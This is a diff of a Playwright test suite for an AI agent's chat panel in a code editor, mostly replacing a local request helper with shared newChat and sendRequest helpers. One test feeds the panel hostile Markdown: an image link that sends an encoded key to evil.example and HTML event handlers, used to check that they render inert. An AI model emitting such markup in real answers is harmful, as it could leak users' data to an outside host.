@@ -2,17 +2,10 @@ import * as assert from 'node:assert/strict';
 import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Page } from 'playwright-core';
-import { answerInputBox, chatFrame, runCommand, workbench } from '../../host/workbench';
+import { answerInputBox, chatFrame, newChat, runCommand, sendRequest, workbench } from '../../host/workbench';
 import { callTurn, planTurn, textTurn } from '../scenarios';
 
 const HELLO = 'export function hello(name: string): string {\n  return "Hello " + name;\n}\n';
-
-async function typeRequest(page: Page, text: string): Promise<void> {
-  const input = chatFrame(page).locator('[data-testid="input"]');
-  await input.click();
-  await input.fill(text);
-  await input.press('Enter');
-}
 
 /** The proposal's diff editor with both sides drawn (the tab shows before its text does). */
 async function diffDrawn(page: Page): Promise<void> {
@@ -66,11 +59,11 @@ describe('the chat panel in the workbench', function () {
     const { page, emulator } = workbench();
     const frame = chatFrame(page);
     await hideBottomPanel(page);
-    await runCommand(page, 'Agent: New Chat');
+    await newChat(page);
     await frame.locator('[data-testid="new-chat"]').click();
     const slowAnswer = { chunks: Array.from({ length: 40 }, (_, i) => ({ text: `Part ${i} of a long explanation. ` })), chunkDelayMs: 250 };
     emulator.load({ name: 'panel-run', turns: [...editingRun('ui', 'template literals'), slowAnswer] });
-    await typeRequest(page, 'Use template literals in ui/hello.ts');
+    await sendRequest(page, 'Use template literals in ui/hello.ts');
 
     await frame.locator('[data-testid="assistant-text"] h3', { hasText: 'Reading the file' }).waitFor({ timeout: 30_000 });
     await frame.locator('[data-testid="tool-card"]', { hasText: 'hello.ts' }).first().waitFor();
@@ -106,10 +99,10 @@ describe('the chat panel in the workbench', function () {
 
   it('says plainly that a run was cut short by a window reload, and answers the next request', async () => {
     const wb = workbench();
-    await runCommand(wb.page, 'Agent: New Chat');
+    await newChat(wb.page);
     const slow = { chunks: Array.from({ length: 40 }, (_, i) => ({ text: `Step ${i} of a long answer. ` })), chunkDelayMs: 250 };
     wb.emulator.load({ name: 'reload-mid-run', turns: [planTurn([{ id: '1', description: 'Answer at length' }]), slow] });
-    await typeRequest(wb.page, 'explain at length');
+    await sendRequest(wb.page, 'explain at length');
     await chatFrame(wb.page).locator('[data-testid="assistant-text"]', { hasText: 'Step 4 of' }).waitFor({ timeout: 30_000 });
     await wb.reload();
     const frame = chatFrame(wb.page);
@@ -120,7 +113,7 @@ describe('the chat panel in the workbench', function () {
     assert.match(await frame.locator('[data-testid="assistant-text"]').last().innerText(), /Step 0 of a long answer/);
     assert.equal(await frame.locator('[data-testid="stop"]').isVisible(), false, 'no run is shown as still going');
     wb.emulator.load({ name: 'after-reload', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Ready again.'])] });
-    await typeRequest(wb.page, 'still there?');
+    await sendRequest(wb.page, 'still there?');
     await frame.locator('[data-testid="assistant-text"]', { hasText: 'Ready again.' }).waitFor({ timeout: 30_000 });
   });
 
@@ -133,7 +126,7 @@ describe('the chat panel in the workbench', function () {
     await frame.locator('[data-testid="history-item"]', { hasText: 'Use template literals' }).first().click();
     await frame.locator('[data-testid="change-card"][data-status="applied"]').waitFor();
     emulator.load({ name: 'continue', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Yes, the change is in place.'])] });
-    await typeRequest(page, 'is it done?');
+    await sendRequest(page, 'is it done?');
     await frame.locator('[data-testid="assistant-text"]', { hasText: 'Yes, the change is in place.' }).waitFor({ timeout: 30_000 });
     // The earlier turns are still above: the chat was continued, not replaced.
     assert.ok((await frame.locator('[data-testid="tool-card"]').count()) >= 2);
@@ -141,9 +134,9 @@ describe('the chat panel in the workbench', function () {
 
   it('opens a workspace file, at its line, from a link in an answer', async () => {
     const { page, emulator } = workbench();
-    await runCommand(page, 'Agent: New Chat');
+    await newChat(page);
     emulator.load({ name: 'link', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['It is in [math.ts, line 2](src/math.ts#L2).'])] });
-    await typeRequest(page, 'where is the math?');
+    await sendRequest(page, 'where is the math?');
     await chatFrame(page).locator('[data-testid="assistant-text"] a', { hasText: 'math.ts, line 2' }).click();
     await page.locator('.tabs-container .tab', { hasText: 'math.ts' }).first().waitFor({ timeout: 15_000 });
     await page.locator('.statusbar-item', { hasText: 'Ln 2, Col 1' }).first().waitFor({ timeout: 15_000 });
@@ -153,9 +146,9 @@ describe('the chat panel in the workbench', function () {
   it('inserts a code block at the cursor, or into a new editor when none is open', async () => {
     const { page, emulator } = workbench();
     await runCommand(page, 'View: Close All Editors');
-    await runCommand(page, 'Agent: New Chat');
+    await newChat(page);
     emulator.load({ name: 'insert', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Open [math.ts](src/math.ts#L1), then:\n\n```ts\nconst inserted = 42;\n```\n'])] });
-    await typeRequest(page, 'give me a line');
+    await sendRequest(page, 'give me a line');
     const frame = chatFrame(page);
     const insert = frame.locator('[data-action="insert-code"]').last();
     await insert.waitFor({ timeout: 30_000 });
@@ -181,7 +174,7 @@ describe('the chat panel in the workbench', function () {
 
   it('renders hostile Markdown inert: no remote images, scripts, frames, forms, handlers or javascript: links', async () => {
     const { page, emulator } = workbench();
-    await runCommand(page, 'Agent: New Chat');
+    await newChat(page);
     const hostile = [
       '![status](https://evil.example/p.png?key=c2VjcmV0)',
       '<img src="https://evil.example/x.png" onerror="window.__pwned = 1">',
@@ -192,7 +185,7 @@ describe('the chat panel in the workbench', function () {
       '<a href="https://evil.example/" onclick="window.__pwned = 4">raw link</a> <kbd>Ctrl</kbd>',
     ].join('\n\n');
     emulator.load({ name: 'hostile-markdown', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn([hostile])] });
-    await typeRequest(page, 'render this');
+    await sendRequest(page, 'render this');
     const frame = chatFrame(page);
     await frame.locator('[data-testid="run-end"]').last().waitFor({ timeout: 30_000 });
     const answer = frame.locator('[data-testid="assistant-text"]').last();
@@ -221,7 +214,7 @@ describe('the chat panel in the workbench', function () {
     try {
       await frame.locator('[data-testid="new-chat"]').click();
       emulator.load({ name: 'light', turns: [...editingRun('ui', 'template literals'), textTurn(['Nothing changed, so nothing to explain.'])] });
-      await typeRequest(page, 'Use template literals in ui/hello.ts');
+      await sendRequest(page, 'Use template literals in ui/hello.ts');
       const card = frame.locator('[data-testid="change-card"][data-status="proposed"]');
       await card.waitFor({ timeout: 30_000 });
       await page.locator('.tabs-container .tab', { hasText: 'hello.ts' }).first().waitFor();
@@ -246,11 +239,11 @@ describe('the chat panel for keyboard and screen-reader users', function () {
 
   it('names every visible control, and Tab walks from the header to the input', async () => {
     const { page, emulator } = workbench();
-    await runCommand(page, 'Agent: New Chat');
+    await newChat(page);
     const frame = chatFrame(page);
     // A finished run, so its plan, code block buttons and end line are on the page too.
     emulator.load({ name: 'a11y', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Here:\n\n```ts\nconst x = 1;\n```\n'])] });
-    await typeRequest(page, 'show me code');
+    await sendRequest(page, 'show me code');
     await frame.locator('[data-testid="run-end"]').last().waitFor({ timeout: 30_000 });
     const unnamed = await frame.locator('body').evaluate(() =>
       [...document.querySelectorAll<HTMLElement>('button, select, textarea, input, summary, a[href]')]
@@ -277,7 +270,7 @@ describe('the model picker', function () {
 
   it('lists the API\'s models and sends the next request to the one picked', async () => {
     const { page, emulator } = workbench();
-    await runCommand(page, 'Agent: New Chat');
+    await newChat(page);
     const picker = chatFrame(page).locator('[data-testid="model-picker"]');
     await picker.locator('option[value="gemini-2.5-pro"]').waitFor({ state: 'attached', timeout: 20_000 });
     await picker.selectOption('gemini-2.5-pro');
@@ -285,7 +278,7 @@ describe('the model picker', function () {
       emulator.load({ name: 'picked', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['From the picked model.'])] });
       // The pick is a settings write in the extension host; give it a moment to land.
       await page.waitForTimeout(1000);
-      await typeRequest(page, 'which model?');
+      await sendRequest(page, 'which model?');
       await chatFrame(page).locator('[data-testid="assistant-text"]', { hasText: 'From the picked model.' }).waitFor({ timeout: 30_000 });
       const paths = emulator.requests.map((r) => r.path).filter((p) => p.includes('enerateContent'));
       assert.ok(paths.length > 0 && paths.every((p) => p.includes('/models/gemini-2.5-pro:')), paths.join(', '));
